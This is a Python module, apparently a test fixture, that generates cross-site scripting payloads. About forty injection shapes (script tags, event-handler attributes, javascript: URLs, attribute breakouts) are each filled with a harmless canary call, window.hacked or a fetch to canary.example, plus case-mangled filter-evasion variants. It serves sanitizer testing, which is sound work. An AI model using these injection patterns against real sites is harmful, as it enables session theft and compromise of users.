"""Texts that run a script where they are taken for markup: each sets ``window.hacked`` or asks a canary server."""

from __future__ import annotations

CALLS = ("window.hacked=1", "fetch('//canary.example/x')")
_SHAPES = (
    "<script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<math href=javascript:{}>x</math>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<marquee onstart={}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>",
    "<button formaction=javascript:{}>x",
    "<link rel=stylesheet href=//canary.example onload={}>",
    "<style>@import'//canary.example';</style>{}",
    "<base href=//canary.example/>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<template><script>{}</script></template>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus='",
    "`onerror={}`",
    "javascript:{}",
    "<dialog open onclose={}>",
    "<xss id=x tabindex=1 onfocus={}></xss>",
    "${{{}}}",
    "{{{{{}}}}}",
    "\u2028<script>{}</script>",
)
PAYLOADS = tuple(
    variant(shape.format(call))
    for shape in _SHAPES
    for call in CALLS
    for variant in (str, lambda text: text.replace("script", "ScRiPt").replace("on", "oN"))
)
